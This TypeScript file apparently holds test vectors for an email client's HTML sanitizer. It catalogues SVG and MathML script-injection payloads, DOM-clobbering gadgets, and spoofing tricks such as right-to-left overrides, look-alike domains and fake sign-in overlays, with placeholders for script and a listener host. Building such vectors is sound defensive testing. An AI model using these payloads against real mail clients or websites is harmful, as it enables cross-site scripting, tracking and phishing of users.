import { family } from './vector';

/** SVG and MathML: their own script, animation, link and resource elements. */
export const SVG_MATHML_VECTORS = family('svg-mathml', [
  {
    id: 'svg-mathml-01',
    attempts: 'script',
    description: 'SVG script element',
    html: '<svg><script>__PWN__</script></svg>',
  },
  {
    id: 'svg-mathml-02',
    attempts: 'script',
    description: 'SVG script with a data: href',
    html: '<svg><script href="data:text/javascript,__PWN__"></script></svg>',
  },
  {
    id: 'svg-mathml-03',
    attempts: 'script',
    description: 'onbegin on an SVG animation',
    html: '<svg><animate onbegin="__PWN__" attributeName="x" dur="1s"/></svg>',
  },
  {
    id: 'svg-mathml-04',
    attempts: 'script',
    description: 'onbegin on discard',
    html: '<svg><discard onbegin="__PWN__"/></svg>',
  },
  {
    id: 'svg-mathml-05',
    attempts: 'script',
    description: 'set turning a link’s href into a javascript: URL',
    html: '<svg><a><set attributeName="href" to="javascript:__PWN__"/><text y="20">Open</text></a></svg>',
  },
  {
    id: 'svg-mathml-06',
    attempts: 'script',
    description: 'animate values giving a link a javascript: href',
    html: '<svg><a><animate attributeName="href" values="javascript:__PWN__" fill="freeze"/><text y="20">Details</text></a></svg>',
  },
  {
    id: 'svg-mathml-07',
    attempts: 'script',
    description: 'set animating an event-handler attribute',
    html: '<svg><set attributeName="onmouseover" to="__PWN__"/><rect width="100" height="100"/></svg>',
  },
  {
    id: 'svg-mathml-08',
    attempts: 'script',
    description: 'xlink:href javascript: link around a shape',
    html: '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:__PWN__"><rect width="100" height="20"/></a></svg>',
  },
  {
    id: 'svg-mathml-09',
    attempts: 'script',
    description: 'use referencing a data: SVG document that carries a handler',
    html: '<svg><use href="data:image/svg+xml,%3Csvg id=%22x%22 xmlns=%22http://www.w3.org/2000/svg%22%3E%3Cimage href=%221%22 onerror=%22__PWN__%22/%3E%3C/svg%3E#x"/></svg>',
  },
  {
    id: 'svg-mathml-10',
    attempts: 'script',
    description: 'HTML image inside foreignObject',
    html: '<svg><foreignObject width="100" height="100"><img src="x" onerror="__PWN__"></foreignObject></svg>',
  },
  {
    id: 'svg-mathml-11',
    attempts: 'script',
    description: 'onerror on an SVG image',
    html: '<svg><image href="x" onerror="__PWN__"/></svg>',
  },
  {
    id: 'svg-mathml-12',
    attempts: 'script',
    description: 'XML Events handler element',
    html: '<svg xmlns:ev="http://www.w3.org/2001/xml-events"><handler ev:event="load">__PWN__</handler></svg>',
  },
  {
    id: 'svg-mathml-13',
    attempts: 'fetch',
    description: '@import inside an SVG style',
    html: '<svg><style>@import "http://__LISTENER__/svg-mathml-13.css";</style></svg>',
  },
  {
    id: 'svg-mathml-14',
    attempts: 'fetch',
    description: 'Remote paint server in an SVG style',
    html: '<svg><style>rect{fill:url(http://__LISTENER__/svg-mathml-14.svg#g)}</style><rect width="10" height="10"/></svg>',
  },
  {
    id: 'svg-mathml-15',
    attempts: 'fetch',
    description: 'feImage in a filter',
    html: '<svg><filter id="f"><feImage href="http://__LISTENER__/svg-mathml-15.png"/></filter><rect filter="url(#f)" width="10" height="10"/></svg>',
  },
  {
    id: 'svg-mathml-16',
    attempts: 'script',
    description: 'href on a MathML element',
    html: '<math href="javascript:__PWN__"><mtext>Click</mtext></math>',
  },
  {
    id: 'svg-mathml-17',
    attempts: 'script',
    description: 'maction with an xlink:href',
    html: '<math><maction actiontype="statusline" xlink:href="javascript:__PWN__"><mtext>x</mtext><mtext>status</mtext></maction></math>',
  },
  {
    id: 'svg-mathml-18',
    attempts: 'script',
    description: 'annotation-xml declared as HTML, an HTML integration point',
    html: '<math><annotation-xml encoding="text/html"><img src="x" onerror="__PWN__"></annotation-xml></math>',
  },
  {
    id: 'svg-mathml-19',
    attempts: 'fetch',
    description: 'mglyph with a remote src',
    html: '<math><mglyph src="http://__LISTENER__/svg-mathml-19.png"/></math>',
  },
]);

/**
 * Named elements that shadow document and window properties. Harmless in the sandboxed reading pane,
 * dangerous wherever mail HTML meets app script (the compose pane): the clobbered values are javascript:
 * or listener URLs, so a gadget that trusts them shows up as script or a fetch.
 */
export const DOM_CLOBBERING_VECTORS = family('dom-clobbering', [
  {
    id: 'dom-clobbering-01',
    attempts: 'fetch',
    description: 'img named getElementById shadows document.getElementById',
    html: '<img name="getElementById" src="http://__LISTENER__/dom-clobbering-01.png">',
  },
  {
    id: 'dom-clobbering-02',
    attempts: 'script',
    description: 'form named body shadows document.body, its input shadows innerHTML',
    html: '<form name="body"><input name="innerHTML" value="<img src=x onerror=__PWN__>"></form>',
  },
  {
    id: 'dom-clobbering-03',
    attempts: 'script',
    description: 'form id and name plus an input give window.config.scriptUrl',
    html: '<form id="config" name="config"><input name="scriptUrl" value="javascript:__PWN__"></form>',
  },
  {
    id: 'dom-clobbering-04',
    attempts: 'script',
    description: 'Two anchors with one id make a collection whose named member is a javascript: link',
    html: '<a id="defaults"></a><a id="defaults" name="href" href="javascript:__PWN__">x</a>',
  },
  {
    id: 'dom-clobbering-05',
    attempts: 'fetch',
    description: 'img named cookie shadows document.cookie',
    html: '<img name="cookie" src="http://__LISTENER__/dom-clobbering-05.png">',
  },
  {
    id: 'dom-clobbering-06',
    attempts: 'script',
    description: 'Inputs named attributes and nodeName break a sanitizer’s view of the form',
    html: '<form id="f"><input name="attributes"><input name="nodeName"><img src=x onerror="__PWN__"></form>',
  },
  {
    id: 'dom-clobbering-07',
    attempts: 'script',
    description: 'Named iframe whose document carries the clobbering anchor (window.tidings.config)',
    html: '<iframe name="tidings" srcdoc="<a id=&quot;config&quot; href=&quot;javascript:__PWN__&quot;></a>"></iframe>',
  },
  {
    id: 'dom-clobbering-08',
    attempts: 'fetch',
    description: 'Anchor whose toString is a listener URL, shadowing a global a script reads',
    html: '<a id="baseUrl" href="http://__LISTENER__/dom-clobbering-08/">x</a>',
  },
  {
    id: 'dom-clobbering-09',
    attempts: 'fetch',
    description: 'Element ids named after Next.js bootstrap globals',
    html: '<a id="__NEXT_DATA__" href="http://__LISTENER__/dom-clobbering-09"></a><div id="__next"></div>',
  },
  {
    id: 'dom-clobbering-10',
    attempts: 'script',
    description: 'img named currentScript shadows document.currentScript',
    html: '<img name="currentScript" src="x" onerror="__PWN__">',
  },
  {
    id: 'dom-clobbering-11',
    attempts: 'script',
    description: 'input named action shadows form.action',
    html: '<form id="x" action="https://contoso.test/"><input name="action" value="javascript:__PWN__"></form>',
  },
]);

/** Content that misleads the reader rather than the browser: bidi tricks, look-alikes, fake UI. */
export const SPOOF_VECTORS = family('spoof', [
  {
    id: 'spoof-01',
    attempts: 'spoof',
    description: 'Right-to-left override makes an .exe read as a .pdf',
    html: '<p>Attached: <a href="http://__LISTENER__/spoof-01">invoice\u202Efdp.exe</a></p>',
  },
  {
    id: 'spoof-02',
    attempts: 'spoof',
    description: 'Link text naming one site, href going to another',
    html: '<a href="http://__LISTENER__/spoof-02">https://login.microsoftonline.com/</a>',
  },
  {
    id: 'spoof-03',
    attempts: 'spoof',
    description: 'Override closed with a pop, so only the sender address reads reversed',
    html: '<p>Sent by \u202Etset.osotnoc@ecnanif\u202C on your behalf</p>',
  },
  {
    id: 'spoof-04',
    attempts: 'spoof',
    description: 'Cyrillic letter in a look-alike domain',
    html: '<a href="http://__LISTENER__/spoof-04">https://micr\u043Esoft.com/reset</a>',
  },
  {
    id: 'spoof-05',
    attempts: 'spoof',
    description: 'Left-to-right and right-to-left marks around a URL',
    html: '<a href="http://__LISTENER__/spoof-05">\u200Fhttps://contoso.test\u200E/reset</a>',
  },
  {
    id: 'spoof-06',
    attempts: 'spoof',
    description: 'bdo reverses a file name',
    html: '<p>Open <bdo dir="rtl">fdp.exe</bdo></p>',
  },
  {
    id: 'spoof-07',
    attempts: 'spoof',
    description: 'Zero-width characters inside a company name',
    html: '<p>Conto\u200Dso IT Se\u200Bcurity</p>',
  },
  {
    id: 'spoof-08',
    attempts: 'spoof',
    description: 'Full-window overlay imitating a sign-in prompt',
    html: '<div style="position:fixed;top:0;left:0;width:100%;height:100%;background:#fff;z-index:2147483647"><h1>Session expired</h1><p>Sign in again to keep reading.</p></div>',
  },
  {
    id: 'spoof-09',
    attempts: 'spoof',
    description: 'Banner imitating the app’s own verified-sender notice',
    html: '<div style="background:#e6f4ea;border:1px solid #34a853;padding:8px">\u2713 Verified sender: this message is from your IT department</div>',
  },
  {
    id: 'spoof-10',
    attempts: 'spoof',
    description: 'Link styled as the app’s Show images button',
    html: '<a href="http://__LISTENER__/spoof-10" style="display:inline-block;padding:6px 12px;background:#0f6cbd;color:#fff">Show images</a>',
  },
  {
    id: 'spoof-11',
    attempts: 'spoof',
    description: 'Negative margin pulling content over whatever sits above the body',
    html: '<div style="margin-top:-2000px;position:relative">From: CEO &lt;ceo@contoso.test&gt;</div>',
  },
  {
    id: 'spoof-12',
    attempts: 'spoof',
    description: 'Hidden text aimed at filters and previews',
    html: '<p>Invoice <span style="display:none">internal, safe</span><span style="font-size:0">not phishing</span></p>',
  },
  {
    id: 'spoof-13',
    attempts: 'spoof',
    description: 'Stacked combining marks spilling over neighbouring lines',
    html: `<p>Z${'\u0336\u030D\u0310'.repeat(40)}algo</p>`,
  },
]);
